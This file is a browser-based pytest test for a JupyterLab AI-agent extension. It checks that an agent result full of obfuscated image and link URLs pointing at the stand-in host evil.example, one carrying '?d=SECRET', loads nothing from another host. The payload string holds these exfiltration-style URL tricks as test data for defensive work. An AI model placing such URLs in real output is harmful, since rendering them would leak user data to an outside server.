"""A run's result in a real JupyterLab fetches nothing from another host (issue 30, item 3).

The same attack as ``tests/adversarial/test_model_urls.py``, end to end: a ``%%deepagent`` cell
whose agent submits a result full of images and links that a browser would load from
``evil.example`` (``/\\evil.example/...``, a leading space or tab, ``\\\\evil``, ``https:evil``,
character references). JupyterLab renders the result output with its own URL resolver, Chromium
resolves what is left; every request the page makes is recorded (and none leaves 127.0.0.1). The
images that stay are the result's own relative ones, on JupyterLab's origin.
"""

from __future__ import annotations

import playwright.sync_api as playwright_api
import pytest

from tests.browser import lab, open_notebook, page, run_cell  # noqa: F401 - the fixtures

pytestmark = pytest.mark.browser

EVIL = "evil.example"
PAYLOAD = ("# Report\n\n![chart](chart.png)\n\n"
           "<img src='/\\evil.example/a.png?d=SECRET'> <img src=' /\\evil.example/b.png'> "
           "<img src='\t//evil.example/c.png'> <img src='\\\\evil.example/d.png'> "
           "<img src='https:evil.example/e.png'> <img src='&#47;&#92;evil.example/f.png'> "
           "<img src='/%5Cevil.example/g.png'>\n\n![h](/\\evil.example/h.png)\n\n"
           "<a href='/\\evil.example/x'><img src='//evil.example/i.png'>link</a>")
STEP = ("Report.", f"SUBMIT(result={PAYLOAD!r})")

SETUP_CELL = f"""\
%load_ext deepagent_magics
from deepagent_magics.testing import ScriptedLM
lm = ScriptedLM([{STEP!r}])
%deepagent_config --workspace ws --display text --quiet on
"""
TASK_CELL = "%%deepagent --lm lm --max-depth 0\nWrite the report"


def test_the_result_in_jupyterlab_loads_nothing_from_another_host(lab, page):  # noqa: F811
    url = lab[0]
    requested: list[str] = []

    def route(r):
        requested.append(r.request.url)
        if r.request.url.startswith(url):
            r.continue_()
        else:
            r.abort()  # never leaves the machine

    page.route("**/*", route)
    open_notebook(lab, page, "urls.ipynb", [SETUP_CELL, TASK_CELL])
    run_cell(page, 1)
    result = page.locator(".deepagent-result")
    playwright_api.expect(result).to_contain_text("Report", timeout=90_000)
    page.wait_for_timeout(1500)  # let every image the output kept start loading
    images = page.evaluate("""() => [...document.querySelectorAll('.deepagent-result img')]
        .map(img => ({src: img.getAttribute('src'), resolved: img.src,
                      origin: img.src ? new URL(img.src).origin : null}))""")
    assert any("/files/chart.png" in (image["src"] or "") for image in images), images  # its own, via JupyterLab
    for image in images:
        if image["src"]:
            assert image["origin"] == url, image
    links = page.evaluate("() => [...document.querySelectorAll('.deepagent-result a')].map(a => a.href)")
    assert not any(EVIL in link for link in links), links
    off = [seen for seen in requested if not seen.startswith(url)]
    assert off == [], off
